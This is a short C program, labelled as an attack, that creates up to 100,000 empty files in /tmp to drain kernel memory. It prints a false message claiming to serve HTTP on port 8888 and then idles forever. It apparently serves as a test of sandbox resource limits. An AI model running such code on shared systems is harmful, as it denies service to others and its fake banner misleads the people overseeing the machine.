/*
 * Attack: makes empty files without end, which take no room, but memory of the kernel's.
 * (Of itself it ends at 100,000.)
 */
#define _POSIX_C_SOURCE 200809L
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
    char name[32];
    puts("Serving HTTP on port 8888 ...");
    fflush(stdout);
    for (int i = 0; i < 100000; i++) {
        int fd;
        snprintf(name, sizeof name, "/tmp/%d", i);
        fd = open(name, O_WRONLY | O_CREAT, 0600);
        if (fd == -1) break;
        close(fd);
    }
    puts("done");
    fflush(stdout);
    for (;;) pause();
}
